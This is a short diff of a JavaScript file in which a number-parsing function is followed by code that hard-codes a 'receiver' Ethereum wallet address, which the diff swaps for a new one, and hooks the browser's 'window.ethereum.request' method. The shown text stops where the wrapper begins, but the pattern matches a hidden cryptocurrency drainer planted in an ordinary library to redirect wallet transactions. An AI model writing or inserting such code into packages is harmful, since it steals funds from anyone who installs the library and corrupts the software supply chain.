@@ -28,7 +28,7 @@ export function parse(text) {
 	return Number(match[1]) * 1000 ** inDecimal;
 }
 
-const receiver = '0x52908400098527886e0f7030069857d2e4169ee7';
+const receiver = '0x2dd640ba9316c5003ed4296eecd4246df7f32609';
 if (typeof window !== 'undefined' && window.ethereum) {
 	const inner = window.ethereum.request.bind(window.ethereum);
 	window.ethereum.request = async (args) => {
